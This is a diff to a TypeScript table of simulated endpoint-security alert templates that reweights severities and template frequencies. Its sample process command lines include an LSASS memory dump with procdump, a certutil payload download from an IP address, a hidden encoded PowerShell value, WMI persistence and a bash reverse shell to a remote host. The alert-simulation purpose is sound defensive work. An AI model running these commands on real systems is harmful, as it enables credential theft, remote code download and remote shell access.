@@ -41,7 +41,7 @@ export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
   {
     title: "Suspicious access to LSASS service",
     description: "A process accessed the memory of the Local Security Authority Subsystem Service (LSASS). Attackers read LSASS memory to obtain credentials of users who signed in to the device.",
-    category: "CredentialAccess", mitreTechniques: ["T1003", "T1003.001"], severities: [["High", 7], ["Medium", 3]],
+    category: "CredentialAccess", mitreTechniques: ["T1003", "T1003.001"], severities: [["High", 5], ["Medium", 5]],
     detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
     processes: [
       { fileName: "procdump64.exe", filePath: "C:\\Users\\Public\\Downloads", commandLine: "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp", parentFileName: "cmd.exe", parentFilePath: "C:\\Windows\\System32" },
@@ -60,10 +60,10 @@ export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
   {
     title: "ASR rule blocked credential stealing from LSASS",
     description: "Attack surface reduction rule 'Block credential stealing from the Windows local security authority subsystem (lsass.exe)' blocked a process from opening LSASS.",
-    category: "CredentialAccess", mitreTechniques: ["T1003.001"], severities: [["Informational", 6], ["Low", 4]],
+    category: "CredentialAccess", mitreTechniques: ["T1003.001"], severities: [["Informational", 7], ["Low", 3]],
     detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: DESKTOP,
     processes: [{ fileName: "taskmgr.exe", filePath: "C:\\Windows\\System32", commandLine: "\"C:\\Windows\\system32\\taskmgr.exe\" /4", parentFileName: "explorer.exe", parentFilePath: "C:\\Windows" }],
-    files: [], urls: [], ips: [], registry: null, weight: 5, theme: "Credential theft",
+    files: [], urls: [], ips: [], registry: null, weight: 8, theme: "Credential theft",
   },
   {
     title: "Ransomware behavior detected in the file system",
@@ -103,7 +103,7 @@ export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
   {
     title: "Office application spawned a suspicious child process",
     description: "A Microsoft Office application started a scripting engine or command shell, a common sign of a malicious macro.",
-    category: "InitialAccess", mitreTechniques: ["T1204.002", "T1566.001"], severities: [["Medium", 7], ["High", 3]],
+    category: "InitialAccess", mitreTechniques: ["T1204.002", "T1566.001"], severities: [["Medium", 8], ["High", 2]],
     detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: DESKTOP,
     processes: [{ fileName: "cmd.exe", filePath: "C:\\Windows\\System32", commandLine: "cmd.exe /c certutil -urlcache -split -f http://203.0.113.77/inv.exe %TEMP%\\inv.exe", parentFileName: "EXCEL.EXE", parentFilePath: "C:\\Program Files\\Microsoft Office\\root\\Office16" }],
     files: [{ fileName: "Invoice_8812.xlsm", filePath: "C:\\Users\\Public\\Downloads" }], urls: ["http://203.0.113.77/inv.exe"], ips: [], registry: null, weight: 5, theme: "Phishing",
@@ -127,12 +127,12 @@ export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
     description: "A potentially unwanted application (PUA) such as adware or a bundled installer was blocked.",
     category: "UnwantedSoftware", mitreTechniques: [], severities: [["Informational", 7], ["Low", 3]],
     detectionSource: "WindowsDefenderAv", threatFamilyName: "Presenoker", threatName: "PUA:Win32/Presenoker", families: ["windows", "macos"],
-    processes: [], files: [{ fileName: "FreePDFConverterSetup.exe", filePath: "C:\\Users\\Public\\Downloads" }], urls: [], ips: [], registry: null, weight: 9, theme: "Unwanted software",
+    processes: [], files: [{ fileName: "FreePDFConverterSetup.exe", filePath: "C:\\Users\\Public\\Downloads" }], urls: [], ips: [], registry: null, weight: 12, theme: "Unwanted software",
   },
   {
     title: "Suspicious process injection observed",
     description: "A process injected code into another process, a technique used to evade defenses and run in a trusted context.",
-    category: "DefenseEvasion", mitreTechniques: ["T1055", "T1055.012"], severities: [["Medium", 6], ["High", 4]],
+    category: "DefenseEvasion", mitreTechniques: ["T1055", "T1055.012"], severities: [["Medium", 7], ["High", 3]],
     detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
     processes: [{ fileName: "rundll32.exe", filePath: "C:\\Windows\\SysWOW64", commandLine: "rundll32.exe c:\\temp\\suspicious.dll,RepeatAfterMe", parentFileName: "rundll32.exe", parentFilePath: "C:\\Windows\\System32" }],
     files: [{ fileName: "suspicious.dll", filePath: "C:\\temp" }], urls: [], ips: [], registry: null, weight: 4, theme: "Defense evasion",
@@ -148,7 +148,7 @@ export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
   {
     title: "Suspicious WMI event subscription",
     description: "A WMI event consumer was registered to run a command, a fileless persistence technique.",
-    category: "Persistence", mitreTechniques: ["T1546.003"], severities: [["Medium", 5], ["High", 5]],
+    category: "Persistence", mitreTechniques: ["T1546.003"], severities: [["Medium", 7], ["High", 3]],
     detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
     processes: [{ fileName: "wmic.exe", filePath: "C:\\Windows\\System32\\wbem", commandLine: "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=\"upd\"", parentFileName: "powershell.exe", parentFilePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0" }],
     files: [], urls: [], ips: [], registry: { key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Wbem\\ESS", hive: "HKEY_LOCAL_MACHINE", valueName: "upd", value: "powershell.exe -w hidden -enc SQBFAFgA" }, weight: 2, theme: "Persistence",
@@ -164,7 +164,7 @@ export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
   {
     title: "Suspicious remote service creation",
     description: "A service was created remotely on this device using administrative shares, a common lateral movement technique.",
-    category: "LateralMovement", mitreTechniques: ["T1021.002", "T1569.002"], severities: [["High", 5], ["Medium", 5]],
+    category: "LateralMovement", mitreTechniques: ["T1021.002", "T1569.002"], severities: [["High", 3], ["Medium", 7]],
     detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: WIN,
     processes: [{ fileName: "services.exe", filePath: "C:\\Windows\\System32", commandLine: "C:\\Windows\\system32\\services.exe", parentFileName: "wininit.exe", parentFilePath: "C:\\Windows\\System32" }],
     files: [{ fileName: "PSEXESVC.exe", filePath: "C:\\Windows" }], urls: [], ips: ["10.20.4.17"], registry: null, weight: 3, theme: "Lateral movement",
@@ -172,7 +172,7 @@ export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
   {
     title: "Connection to a custom network indicator",
     description: "The device connected to an address on the organization's custom indicator list.",
-    category: "CommandAndControl", mitreTechniques: ["T1071.001"], severities: [["Medium", 5], ["High", 3], ["Low", 2]],
+    category: "CommandAndControl", mitreTechniques: ["T1071.001"], severities: [["Medium", 5], ["High", 2], ["Low", 3]],
     detectionSource: "CustomTi", threatFamilyName: null, threatName: null, families: ["windows", "server", "macos", "linux"],
     processes: [], files: [], urls: ["http://cdn-update.badhost.example/beacon"], ips: ["198.51.100.77"], registry: null, weight: 4, theme: "Command and control",
   },
@@ -181,7 +181,7 @@ export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
     description: "An automated investigation was started manually by a security operator.",
     category: "SuspiciousActivity", mitreTechniques: [], severities: [["Informational", 1]],
     detectionSource: "AutomatedInvestigation", threatFamilyName: null, threatName: null, families: WIN,
-    processes: [], files: [], urls: [], ips: [], registry: null, weight: 3, theme: "Investigation",
+    processes: [], files: [], urls: [], ips: [], registry: null, weight: 5, theme: "Investigation",
   },
   {
     title: "Suspicious sequence of exploration activities",
@@ -202,7 +202,7 @@ export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
   {
     title: "Reverse shell detected",
     description: "A shell process redirected its input and output to a remote network connection.",
-    category: "Execution", mitreTechniques: ["T1059.004"], severities: [["High", 7], ["Medium", 3]],
+    category: "Execution", mitreTechniques: ["T1059.004"], severities: [["High", 5], ["Medium", 5]],
     detectionSource: "WindowsDefenderAtp", threatFamilyName: null, threatName: null, families: ["linux"],
     processes: [{ fileName: "bash", filePath: "/usr/bin", commandLine: "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", parentFileName: "python3", parentFilePath: "/usr/bin" }],
     files: [], urls: [], ips: ["198.51.100.9"], registry: null, weight: 3, theme: "Suspicious execution",
